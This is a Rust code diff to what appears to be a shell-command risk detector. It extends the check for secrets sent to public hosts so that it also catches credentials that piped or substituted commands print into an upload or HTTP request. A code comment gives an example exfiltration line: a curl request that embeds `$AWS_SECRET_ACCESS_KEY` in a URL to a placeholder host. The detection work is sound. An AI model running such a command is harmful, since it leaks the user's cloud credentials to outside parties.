@@ -146,7 +146,7 @@ pub(super) fn assess(
             (raw, host)
         })
         .collect();
-    secrets_sent(i, &reached, out);
+    secrets_sent(i, &reached, sent_variables(i), out);
     for (raw, host) in reached {
         if host.class == HostClass::Metadata {
             out.push(risk(
@@ -197,7 +197,12 @@ const PAIRS_JUDGED: usize = 4096;
 /// ordinary work. One named for no service in particular (`API_KEY`) sent
 /// to a public host is `credential_sent`, a fact the trajectory pack acts
 /// on once untrusted content has been read.
-fn secrets_sent(i: &Invocation, reached: &[(String, Host)], out: &mut Vec<Risk>) {
+fn secrets_sent<'a>(
+    i: &Invocation,
+    reached: &[(String, Host)],
+    sent: impl Iterator<Item = &'a str>,
+    out: &mut Vec<Risk>,
+) {
     let mut public: Vec<&Host> = reached
         .iter()
         .map(|(_, host)| host)
@@ -206,7 +211,7 @@ fn secrets_sent(i: &Invocation, reached: &[(String, Host)], out: &mut Vec<Risk>)
     if public.is_empty() {
         return;
     }
-    let mut names: Vec<&str> = sent_variables(i).filter(|n| secret_variable(n)).collect();
+    let mut names: Vec<&str> = sent.filter(|n| secret_variable(n)).collect();
     if names.is_empty() {
         return;
     }
@@ -545,17 +550,32 @@ pub(super) fn piped_uploads(
     out: &mut Vec<Risk>,
 ) {
     for (n, upload) in invocations.iter().enumerate() {
+        let mut readers: Vec<&Invocation> = Vec::new();
         if matches!(upload.stdin, Stdin::Pipe(_)) && is_upload(upload) {
-            for reader in feeding_stages(invocations, n) {
-                sent_data(upload, reader, ctx, out);
-            }
+            readers.extend(feeding_stages(invocations, n));
         }
         let requests = Role::HttpClient.includes(&upload.program) || is_upload(upload);
         if requests && upload.arg_words.iter().any(|w| !w.substitutions.is_empty()) {
-            for reader in invocations.get(upload.substituted.clone()).unwrap_or(&[]) {
-                sent_data(upload, reader, ctx, out);
-            }
+            readers.extend(invocations.get(upload.substituted.clone()).unwrap_or(&[]));
         }
+        if readers.is_empty() {
+            continue;
+        }
+        for reader in &readers {
+            sent_data(upload, reader, ctx, out);
+        }
+        // Credentials the readers print are sent as their own would be
+        // (`curl "https://h/?d=$(echo $AWS_SECRET_ACCESS_KEY)"`), and judged
+        // by where they go: a token piped to its own service stays there.
+        let reached: Vec<(String, Host)> = destinations(upload)
+            .into_iter()
+            .map(|raw| {
+                let host = Host::parse(&raw);
+                (raw, host)
+            })
+            .collect();
+        let printed = readers.iter().flat_map(|r| sent_variables(r));
+        secrets_sent(upload, &reached, printed, out);
     }
 }
 
